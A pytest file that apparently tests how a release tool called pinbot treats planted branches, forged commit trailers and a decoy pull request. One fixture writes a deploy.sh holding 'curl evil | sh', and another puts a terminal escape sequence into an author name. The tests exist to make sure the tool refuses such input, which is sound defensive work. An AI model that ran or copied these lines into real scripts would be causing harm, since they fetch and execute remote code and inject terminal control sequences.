"""pinbot's own branches and PRs are recognised by content, never by trailers or names.

Someone with push rights plants `pinbot/<branch>/agent-server-<tag>` (the OpenHands head) or
`pinbot/agent-server-<tag>` (the deploy branch) before pinbot runs, with forged `Pinbot-*`
trailers, or opens a PR from pinbot's head into another base. The real `pinbot cut --push`
must build on none of it: exit 2 naming the commit and its author (escaped), nothing pushed; or,
with `[cut] own_head_branches = true`, replace the branch with pinbot's own commit
(--force-with-lease). A PR is pinbot's only with the right head and base."""

from __future__ import annotations

import json
import os
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from pinbot.demo import repos
from pinbot.demo.repos import Remotes
from testing.cli import Run, pinbot
from testing.cutworld import CAPABLE, IMAGE, cut_remotes, deploy_branch, git_as, head_branch
from testing.github import DEPLOY_URL, OPENHANDS_URL

AREA = "pinbot's own branches and PRs"
ATTACK = (
    "a planted `pinbot/…` head or deploy branch (forged trailers, a planted file or deploy.sh, "
    "pinbot's exact tree on a foreign parent, a merge tip, a commit on top of pinbot's), a PR "
    "from pinbot's head into another base"
)
ANSWER = (
    "builds only on a tip whose tree is what pinbot makes from a commit of the branch: else "
    "exit 2 naming commit and author, nothing pushed (or replaced with --force-with-lease when "
    "[cut] own_head_branches = true); a PR into another base is not adopted"
)
EXIT = "2 (0 when pinbot owns the namespace, or for the PR)"

OLD = "1.26.0-python"
EVIL = ("Mallory \x1b[31mpinbot", "mallory@example.invalid")  # an escape in the author
PLANTED = "planted.py"

pytestmark = pytest.mark.usefixtures("own_temp")


@contextmanager
def work(remote: Path, start: str, author: tuple[str, str] = EVIL) -> Iterator[Any]:
    """A scratch clone checked out at `start`; yields `git(*args)`."""
    with tempfile.TemporaryDirectory(prefix="pinbot-hostile-") as tmp:
        git = git_as(Path(tmp), author)
        git("init", "-q")
        git("fetch", "-q", str(remote), "+refs/heads/*:refs/remotes/origin/*")
        git("checkout", "-q", "--detach", start)
        yield git


def forged(tag: str, digest: str) -> str:
    return f"Pin agent-server {tag}\n\nPinbot-Image: {IMAGE}:{tag}\nPinbot-Digest: {digest}\n"


def pin_files(git: Any, files: dict[str, str] | None = None) -> None:
    top = Path(git("rev-parse", "--show-toplevel"))
    for name in git("grep", "-l", "-F", OLD).splitlines():
        (top / name).write_text((top / name).read_text().replace(OLD, CAPABLE))
    for name, text in (files or {}).items():
        (top / name).write_text(text)
    git("add", "-A")


def plant(world: Remotes, images: Any, start: str, files: dict[str, str] | None = None) -> str:
    """A head branch pinning CAPABLE on `start`, as a human made it, trailers forged."""
    remote, head = world.openhands.remote, head_branch(world.openhands.branch)
    with work(remote, start) as git:
        pin_files(git, files)
        git("commit", "-q", "-m", forged(CAPABLE, images.world.digests[CAPABLE]))
        git("push", "-q", str(remote), f"HEAD:refs/heads/{head}")
        return git("rev-parse", "HEAD")


def cut(world: Remotes, images: Any, *extra: str, openhands: str = "", deploy: str = "") -> Run:
    return pinbot(
        "--json", "cut", "--tag", CAPABLE, "--push",
        "--openhands", openhands or world.openhands.url,
        "--openhands-branch", world.openhands.branch, "--deploy", deploy or world.deploy.url,
        "--image", IMAGE, "--registry-url", images.registry, "--sdk", str(images.world.sdk),
        *extra,
    )  # fmt: skip


def refused(done: Run, world: Remotes, refs: tuple[str, str], commit: str, branch: str) -> None:
    assert done.code == 2, done.err
    assert f"{branch} in " in done.err and "pinbot will not build on it" in done.err
    assert commit[:12] in done.err and "by 'Mallory \\x1b[31mpinbot" in done.err  # escaped
    assert "\x1b" not in done.err
    assert world.refs() == refs  # nothing pushed, in either repository


@pytest.fixture
def world(tmp_path: Path) -> Remotes:
    return cut_remotes(tmp_path / "remotes")


def test_a_planted_head_with_a_planted_file_and_forged_trailers_is_refused(world, images) -> None:
    planted = plant(world, images, world.openhands.backend_commit, {PLANTED: "import os\n"})
    refs = world.refs()

    done = cut(world, images)

    refused(done, world, refs, planted, head_branch(world.openhands.branch))


def test_pinbots_exact_tree_on_a_parent_off_the_branch_is_refused(world, images) -> None:
    remote = world.openhands.remote
    side = repos.add_commit(remote, "side", {"NOTES.md": "x\n"}, "Side",
                            start=world.openhands.backend_commit)  # fmt: skip
    with work(remote, side) as git:  # pinbot's pin, on a commit the branch does not have
        git("rm", "-q", "NOTES.md")
        pin_files(git)
        git("commit", "-q", "-m", forged(CAPABLE, images.world.digests[CAPABLE]))
        planted = git("rev-parse", "HEAD")
        git("push", "-q", str(remote), f"HEAD:refs/heads/{head_branch(world.openhands.branch)}")
    refs = world.refs()

    done = cut(world, images)

    refused(done, world, refs, planted, head_branch(world.openhands.branch))
    assert f"is not one commit on top of {world.openhands.branch}" in done.err


def test_a_merge_tip_on_the_head_is_refused(world, images) -> None:
    remote, head = world.openhands.remote, head_branch(world.openhands.branch)
    side = repos.add_commit(remote, "side", {PLANTED: "x\n"}, "Side", start=world.openhands.main)
    with work(remote, world.openhands.backend_commit) as git:
        pin_files(git)
        git("commit", "-q", "-m", "pin")
        git("merge", "-q", "--no-ff", "-m", forged(CAPABLE, "sha256:" + "0" * 64), side)
        planted = git("rev-parse", "HEAD")
        git("push", "-q", str(remote), f"HEAD:refs/heads/{head}")
    refs = world.refs()

    done = cut(world, images)

    refused(done, world, refs, planted, head)


def test_a_commit_with_copied_trailers_on_top_of_pinbots_head_is_refused(world, images) -> None:
    assert cut(world, images).code == 0
    remote, head = world.openhands.remote, head_branch(world.openhands.branch)
    with work(remote, f"origin/{head}") as git:
        Path(git("rev-parse", "--show-toplevel"), PLANTED).write_text("import os\n")
        git("add", "-A")
        git("commit", "-q", "-m", forged(CAPABLE, images.world.digests[CAPABLE]))
        planted = git("rev-parse", "HEAD")
        git("push", "-q", str(remote), f"HEAD:refs/heads/{head}")
    refs = world.refs()

    done = cut(world, images)

    refused(done, world, refs, planted, head)


def test_a_planted_deploy_branch_with_a_deploy_script_is_not_built_on(world, images) -> None:
    remote = world.deploy.remote
    with work(remote, world.deploy.main) as git:
        top = Path(git("rev-parse", "--show-toplevel"))
        (top / "deploy.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
        git("add", "-A")
        git("commit", "-q", "-m", forged(CAPABLE, images.world.digests[CAPABLE]))
        planted = git("rev-parse", "HEAD")
        git("push", "-q", str(remote), f"HEAD:refs/heads/{deploy_branch()}")
    refs = world.refs()

    done = cut(world, images)

    assert done.code == 2, done.err
    assert f"{deploy_branch()} in {world.deploy.url}: its commit {planted[:12]}" in done.err
    assert "is not one pinbot makes" in done.err
    # the OpenHands head was pushed first (a re-run resumes from it); the deploy branch not
    assert repos.git(remote, "rev-parse", deploy_branch()) == planted
    assert world.refs()[1] == refs[1]


def test_when_pinbot_owns_the_namespace_a_planted_head_and_deploy_branch_are_replaced(
    world, images, tmp_path: Path
) -> None:
    plant(world, images, world.openhands.backend_commit, {PLANTED: "import os\n"})
    with work(world.deploy.remote, world.deploy.main) as git:
        Path(git("rev-parse", "--show-toplevel"), "deploy.sh").write_text("#!/bin/sh\nevil\n")
        git("commit", "-q", "-a", "-m", "planted")
        git("push", "-q", str(world.deploy.remote), f"HEAD:refs/heads/{deploy_branch()}")
    (tmp_path / "pinbot.toml").write_text("[cut]\nown_head_branches = true\n")

    done = cut(world, images)

    assert done.code == 0, done.err
    assert "--force-with-lease on" in done.err and "own_head_branches" in done.err
    commit = done.data["openhands"]["commit"]
    remote = world.openhands.remote
    assert repos.git(remote, "rev-parse", head_branch(world.openhands.branch)) == commit
    assert repos.git(remote, "rev-parse", f"{commit}^") == world.openhands.backend_commit
    assert PLANTED not in repos.git(remote, "ls-tree", "-r", "--name-only", commit)
    deployed = repos.git(world.deploy.remote, "rev-parse", deploy_branch())
    assert repos.git(world.deploy.remote, "rev-parse", f"{deployed}^") == world.deploy.main
    assert repos.show(world.deploy.remote, deployed, "deploy.sh") == "#!/bin/sh\n"
    assert f"OPENHANDS_SHA: {commit}" in repos.show(world.deploy.remote, deployed, repos.WORKFLOW)

    again = cut(world, images)  # idempotent: pinbot's own branches are its own now

    assert again.code == 0, again.err
    assert again.data["openhands"]["commit"] == commit and "--force-with-lease" not in again.err


def test_pinbots_own_head_is_built_on_after_the_branch_moved(world, images) -> None:
    first = cut(world, images)
    assert first.code == 0, first.err
    repos.add_commit(world.openhands.remote, world.openhands.branch, {"N.md": "x\n"}, "Notes")
    refs = world.refs()

    again = cut(world, images)

    assert again.code == 0, again.err
    assert again.data["openhands"]["commit"] == first.data["openhands"]["commit"]
    assert world.refs() == refs  # no new commit in either repository


def test_a_pr_from_pinbots_head_into_another_base_is_not_adopted(world, images, github) -> None:
    Path(os.environ["GIT_CONFIG_GLOBAL"]).write_text(
        f'[url "{world.openhands.url}"]\n\tinsteadOf = {OPENHANDS_URL}\n'
        f'[url "{world.deploy.url}"]\n\tinsteadOf = {DEPLOY_URL}\n'
    )
    head = head_branch(world.openhands.branch)
    decoy = github.seed("acme/OpenHands", 7, head, "<!-- pinbot:begin {} -->x", base="release/x")

    done = cut(world, images, "--open-prs", openhands=OPENHANDS_URL, deploy=DEPLOY_URL)

    assert done.code == 0, done.err
    assert done.data["openhands"]["pr"] != decoy["html_url"]
    mine = [p for p in github.pulls["acme/OpenHands"] if p["base"]["ref"] == world.openhands.branch]
    assert [p["head"]["ref"] for p in mine] == [head]
    assert decoy["body"] == "<!-- pinbot:begin {} -->x"  # left as it was
    assert ("PATCH", "/repos/acme/OpenHands/pulls/7") not in github.writes()
    rerun = cut(world, images, "--open-prs", openhands=OPENHANDS_URL, deploy=DEPLOY_URL)
    assert rerun.code == 0 and len(github.pulls["acme/OpenHands"]) == 2  # no third PR
    assert json.dumps(rerun.data["openhands"]["pr"]) == json.dumps(done.data["openhands"]["pr"])


def test_a_deploy_branch_that_only_names_another_sha_is_pinbot_shaped_and_built_on(
    world, images
) -> None:
    """Content decides, both ways: a commit that changes nothing but OPENHANDS_SHA is exactly
    what pinbot makes, whoever made it; pinbot's own commit on top names its pin."""
    remote = world.deploy.remote
    with work(remote, world.deploy.main) as git:
        path = Path(git("rev-parse", "--show-toplevel"), repos.WORKFLOW)
        path.write_text(path.read_text().replace(world.deploy.openhands_sha, "1" * 40))
        git("commit", "-q", "-a", "-m", "someone's deploy")
        shaped = git("rev-parse", "HEAD")
        git("push", "-q", str(remote), f"HEAD:refs/heads/{deploy_branch()}")

    done = cut(world, images)

    assert done.code == 0, done.err
    deployed = repos.git(remote, "rev-parse", deploy_branch())
    assert repos.git(remote, "rev-parse", f"{deployed}^") == shaped
    pin = done.data["openhands"]["commit"]
    assert f"OPENHANDS_SHA: {pin}" in repos.show(remote, deployed, repos.WORKFLOW)
